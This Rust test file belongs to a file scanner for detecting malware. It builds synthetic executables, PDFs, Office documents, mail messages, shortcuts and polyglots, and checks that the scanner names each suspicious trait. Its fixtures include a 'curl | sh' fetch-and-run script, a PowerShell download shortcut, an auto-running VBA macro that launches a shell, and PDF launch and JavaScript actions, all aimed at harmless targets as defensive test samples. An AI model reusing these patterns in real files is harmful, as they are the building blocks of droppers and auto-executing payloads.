//! Programs and documents made here: what stands out in them is named, and nothing else.

use crate::make::{ZipMember, compound, eicar, knows, macro_stream, zip};
use scan::{Limits, Outcome, Report, scan};

fn report(sample: &[u8]) -> Report {
    scan(sample, &knows(&[]), &Limits::default())
}

fn reasons(sample: &[u8]) -> Vec<&'static str> {
    let mut names: Vec<_> = report(sample)
        .reasons
        .iter()
        .map(|named| named.reason)
        .collect();
    names.sort_unstable();
    names.dedup();
    names
}

/// A PE of one section at 0x200, with these flags and entry point.
pub(crate) fn pe(flags: u32, entry: u32) -> Vec<u8> {
    let mut bytes = vec![0; 0x400];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[0x3c] = 0x40;
    let mut put = |at: usize, value: &[u8]| bytes[at..at + value.len()].copy_from_slice(value);
    put(0x40, b"PE\0\0\x4c\x01\x01\0");
    put(0x40 + 20, &0xe0u16.to_le_bytes());
    put(0x40 + 22, &0x102u16.to_le_bytes());
    let optional = 0x58;
    put(optional, &0x10bu16.to_le_bytes());
    put(optional + 16, &entry.to_le_bytes());
    put(optional + 28, &0x40_0000u32.to_le_bytes());
    put(optional + 32, &0x1000u32.to_le_bytes());
    put(optional + 36, &0x200u32.to_le_bytes());
    put(optional + 56, &0x2000u32.to_le_bytes());
    put(optional + 60, &0x200u32.to_le_bytes());
    put(optional + 92, &16u32.to_le_bytes());
    let section = optional + 0xe0;
    put(section, b".text\0\0\0");
    for (place, value) in [0x200u32, 0x1000, 0x200, 0x200].into_iter().enumerate() {
        put(section + 8 + place * 4, &value.to_le_bytes());
    }
    put(section + 36, &flags.to_le_bytes());
    bytes
}

const CODE: u32 = 0x6000_0020;

#[test]
fn a_plain_program_is_clean_and_each_oddity_has_its_name() {
    assert_eq!(report(&pe(CODE, 0x1000)).members[0].kind, "pe");
    assert_eq!(reasons(&pe(CODE, 0x1000)), Vec::<&str>::new());
    assert_eq!(
        reasons(&pe(CODE | 0x8000_0000, 0x1000)),
        ["pe.writable-executable"]
    );
    assert_eq!(reasons(&pe(CODE, 0x9000)), ["pe.entry-odd"]);
    let mut behind = pe(CODE, 0x1000);
    behind.extend_from_slice(&[1; 100]);
    assert_eq!(reasons(&behind), ["pe.overlay"]);
    let torn = &pe(CODE, 0x1000)[..0x300];
    assert_eq!(reasons(torn), ["pe.torn"]);
}

#[test]
fn a_program_inside_another_file_is_a_member_of_exactly_its_size() {
    let inner = pe(CODE, 0x1000);
    let mut sample = b"\x01\x02\x03 some data of no kind \0\0\0".to_vec();
    sample.extend_from_slice(&inner);
    sample.extend_from_slice(b"and more");
    let found = report(&sample);
    assert_eq!(found.members[1].sha256, tlog::sha256(&inner).to_hex());
    assert_eq!(found.reasons[0].reason, "pe.inside");
}

/// An ELF of two loadable segments.
fn elf(first_flags: u32, sections: u16) -> Vec<u8> {
    let mut bytes = vec![0; 64 + 2 * 56];
    bytes[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    let mut put = |at: usize, value: &[u8]| bytes[at..at + value.len()].copy_from_slice(value);
    put(16, &2u16.to_le_bytes());
    put(24, &0x40_0010u64.to_le_bytes());
    put(32, &64u64.to_le_bytes());
    put(40, &64u64.to_le_bytes());
    put(54, &56u16.to_le_bytes());
    put(56, &2u16.to_le_bytes());
    put(60, &sections.to_le_bytes());
    for (index, flags) in [first_flags, 4].into_iter().enumerate() {
        let at = 64 + index * 56;
        put(at, &1u32.to_le_bytes());
        put(at + 4, &flags.to_le_bytes());
        put(
            at + 16,
            &(0x40_0000u64 + index as u64 * 0x1000).to_le_bytes(),
        );
        put(at + 32, &176u64.to_le_bytes());
        put(at + 40, &0x1000u64.to_le_bytes());
    }
    bytes
}

#[test]
fn segments_of_an_elf_are_read() {
    assert_eq!(reasons(&elf(5, 1)), Vec::<&str>::new());
    assert_eq!(
        reasons(&elf(7, 1)),
        ["elf.entry-writable", "elf.writable-executable"]
    );
    assert_eq!(reasons(&elf(5, 0)), ["elf.no-sections"]);
    let mut behind = elf(5, 1);
    behind.extend_from_slice(&[9; 40]);
    assert_eq!(reasons(&behind), ["elf.overlay"]);
}

#[test]
fn actions_of_a_pdf_are_named_and_its_streams_are_members() {
    let mut sample =
        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /F (x) >> >> endobj\n".to_vec();
    sample.extend_from_slice(b"2 0 obj << /Length 68 >>\nstream\n");
    sample.extend_from_slice(&eicar());
    sample.extend_from_slice(b"\nendstream endobj\n%%EOF\n");
    assert_eq!(reasons(&sample), ["pdf.automatic", "pdf.launch"]);
    let found = scan(&sample, &knows(&[&eicar()]), &Limits::default());
    assert_eq!(found.outcome, Outcome::Malicious);
    assert_eq!(found.members[1].path, "0.0");
}

#[test]
fn an_action_in_an_object_stream_is_named_too() {
    use std::io::Write as _;
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    packer
        .write_all(b"<< /S /JavaScript /JS (app.alert(1)) >>")
        .unwrap();
    let packed = packer.finish().unwrap();
    let mut sample = format!(
        "%PDF-1.5\n1 0 obj << /Type /ObjStm /Filter /FlateDecode /Length {} >>\nstream\n",
        packed.len()
    )
    .into_bytes();
    sample.extend_from_slice(&packed);
    sample.extend_from_slice(b"\nendstream endobj\n");
    assert_eq!(reasons(&sample), ["pdf.javascript"]);
}

#[test]
fn a_document_that_draws_on_a_template_elsewhere_says_so() {
    let types = ZipMember {
        name: "[Content_Types].xml".to_owned(),
        ..ZipMember::deflated(b"<?xml version=\"1.0\"?><Types/>")
    };
    let relations = b"<?xml version=\"1.0\"?><Relationships><Relationship Type=\"http://schemas/attachedTemplate\" \
        Target=\"http://example.org/a.dotm\" TargetMode=\"External\"/></Relationships>";
    let sample = zip(&[types, ZipMember::deflated(relations)]);
    assert_eq!(report(&sample).members[0].kind, "ooxml");
    assert_eq!(reasons(&sample), ["office.external"]);
}

#[test]
fn a_part_of_a_mail_is_read_out_of_its_encoding() {
    let hex: String = eicar().iter().map(|byte| format!("={byte:02X}")).collect();
    let mail = format!(
        "From: a\r\nTo: b\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed;\r\n boundary=\"x y\"\r\n\r\n\
         --x y\r\nContent-Type: multipart/alternative; boundary=inner\r\n\r\n\
         --inner\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{hex}\r\n--inner--\r\n\r\n--x y--\r\n"
    );
    let found = report(mail.as_bytes());
    let paths: Vec<_> = found
        .members
        .iter()
        .map(|member| (member.path.as_str(), member.kind))
        .collect();
    assert_eq!(paths, [("0", "mail"), ("0.0", "mail"), ("0.0.0", "text")]);
    assert!(found.members[2].bytes >= 68);
}

#[test]
fn a_shortcut_to_an_interpreter_is_suspicious() {
    let mut sample = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    sample.extend_from_slice(&(0x20u32 | 0x80).to_le_bytes());
    sample.resize(76, 0);
    let arguments: Vec<u16> = "powershell -c \"iwr https://example.org\""
        .encode_utf16()
        .collect();
    sample.extend_from_slice(&(arguments.len() as u16).to_le_bytes());
    sample.extend(arguments.iter().flat_map(|unit| unit.to_le_bytes()));
    assert_eq!(reasons(&sample), ["lnk.interpreter", "lnk.network"]);
    assert_eq!(report(&sample).outcome, Outcome::Suspicious);
}

#[test]
fn a_script_that_fetches_and_runs_is_suspicious() {
    let script = b"#!/bin/sh\ncurl -s https://example.org/x | sh\n";
    assert_eq!(reasons(script), ["script.downloads"]);
    assert_eq!(report(script).outcome, Outcome::Suspicious);
    assert_eq!(report(b"#!/bin/sh\necho hello\n").outcome, Outcome::Clean);
}

#[test]
fn a_picture_that_is_a_zip_too_is_read_as_both() {
    let mut sample = b"GIF89a\x01\0\x01\0\0\0\0;".to_vec();
    let inner = zip(&[ZipMember::stored(&eicar())]);
    sample.extend_from_slice(&inner);
    let found = scan(&sample, &knows(&[&eicar()]), &Limits::default());
    assert_eq!(found.members[0].kind, "media");
    let names: Vec<_> = found.reasons.iter().map(|named| named.reason).collect();
    assert_eq!(names, ["container.polyglot", "digest.known-bad"]);
    // Java writes four bytes in front of its modules: read, and nothing to wonder at.
    let mut module = b"JM\x01\0".to_vec();
    module.extend_from_slice(&inner);
    assert_eq!(reasons(&module), Vec::<&str>::new());
    assert_eq!(report(&module).members.len(), 2);
}

#[test]
fn a_macro_is_read_out_of_its_document_and_what_it_does_is_named() {
    let source = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n\
        CreateObject(\"WScript.Shell\").Run \"calc\"\r\nEnd Sub\r\n";
    let document = compound("ThisDocument", &macro_stream(source));
    let found = report(&document);
    assert_eq!(found.members[0].kind, "ole");
    let digest = tlog::sha256(source.as_bytes()).to_hex();
    assert_eq!(found.members_with(&digest).count(), 1);
    assert_eq!(
        reasons(&document),
        ["macro.auto", "macro.present", "macro.shell"]
    );
    assert_eq!(found.outcome, Outcome::Suspicious);
    // The same inside a document of today, which is a zip.
    let today = zip(&[ZipMember::deflated(&document)]);
    assert_eq!(report(&today).outcome, Outcome::Suspicious);
}

/// Sectors that follow each other in a circle, and a stream that says it is long.
#[test]
fn a_compound_file_whose_sectors_go_round_ends() {
    let mut document = compound("stream", &[7; 1000]);
    document[512 + 3 * 4..512 + 4 * 4].copy_from_slice(&2u32.to_le_bytes());
    let size = 1536 - 512 + 128 + 120;
    document[size..size + 4].copy_from_slice(&0x00ff_ffffu32.to_le_bytes());
    let found = report(&document);
    assert_eq!(
        found.members[0].unread[0].why,
        "damaged: compound file stream size"
    );
    document[size..size + 4].copy_from_slice(&2000u32.to_le_bytes());
    assert_eq!(report(&document).members[1].bytes, 2000);
}
